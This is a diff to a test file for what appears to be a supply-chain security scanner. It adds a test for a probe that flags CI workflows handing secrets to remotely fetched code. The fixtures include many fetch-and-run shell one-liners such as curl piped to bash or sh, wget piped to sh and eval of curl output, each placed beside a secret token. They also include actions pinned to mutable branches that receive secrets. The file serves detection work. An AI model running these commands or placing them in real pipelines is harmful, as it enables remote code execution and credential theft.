@@ -192,6 +192,14 @@ test(binaries, [
 ]);
 
 const SECRET = ['  env:', '    TOKEN: ${{ secrets.SOME_TOKEN }}'];
+it('supply/moving-code: says nothing of an owner that it knows, where another file could not be read', async () => {
+	const { runProbes } = await import('@auditor/probes');
+	const artifacts = await repository({ 'package.json': manifest({ repository: 'other/x' }), '.github/workflows/a.yml': 'on: push\njobs:\n  r:\n    uses: other/flows/.github/workflows/r.yml@main\n    secrets: inherit\n', '.github/workflows/b.yml': 'on: [push\njobs: x\n' });
+	const [found] = runProbes([movingCode], artifacts, { detective: 'repo' });
+	expect(found!.outcome).toBe('not-available');
+	expect(found!.message).toMatch(/^We found no step or job that hands a secret/);
+});
+
 test(movingCode, [
 	...['bash <(curl -s https://e.org/up)', 'curl -s https://e.org/up | sudo bash -s -- -t x', 'wget -qO- https://e.org/up|sh', 'eval "$(curl -fsSL https://e.org/up)"', 'sh -c "$(curl -fsSL https://e.org/up)"', 'curl -s https://e.org/up | /bin/bash', 'curl -s https://e.org/up | env bash', 'curl -s https://e.org/up | tee log | bash', 'curl -s "https://e.org/up?a=1&b=2" | bash', 'curl -s https://e.org/up \\\n          | bash', 'curl -s https://e.org/up | python3 -', 'curl -so up.sh https://e.org/up && bash ./up.sh', 'curl -sO https://e.org/up && sh up', 'wget https://e.org/up -O up; bash -e up', 'curl -s https://e.org/up | sh # sha256sum -c'].map((run) => ({ name: `a secret beside ${run}`, artifacts: steps(`- run: |`, `    ${run}`, ...SECRET), outcomes: ['true' as const], places: ['.github/workflows/a.yml:6'] })),
 	{ name: 'an action at a branch that gets a secret', artifacts: steps('- uses: o/n@master', '  with:', '    token: ${{ secrets.NPM_TOKEN }}'), outcomes: ['true'], places: ['.github/workflows/a.yml:5'] },
